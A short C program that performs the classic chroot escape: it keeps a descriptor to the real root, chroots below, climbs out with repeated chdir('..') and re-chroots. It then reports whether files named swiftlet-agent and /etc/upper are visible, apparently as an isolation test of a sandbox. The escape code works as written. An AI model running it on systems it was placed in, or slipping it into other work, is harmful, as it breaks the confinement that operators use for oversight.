/* Tries to leave the root directory the classic way: chroot below, then climb from a directory that is outside. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("/tmp/below", 0755);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (outside < 0 || chroot("/tmp/below")) {
        perror("chroot");
        return 2;
    }
    if (fchdir(outside)) return 3;
    for (int n = 0; n < 64; n++)
        if (chdir("..")) return 4;
    if (chroot(".")) return 5;
    int agent = access("/bin/swiftlet-agent", F_OK) == 0 || access("/lib/modules/swiftlet", F_OK) == 0;
    int image = access("/etc/upper", F_OK) == 0;
    printf("agent %d image %d\n", agent, image);
    return 0;
}
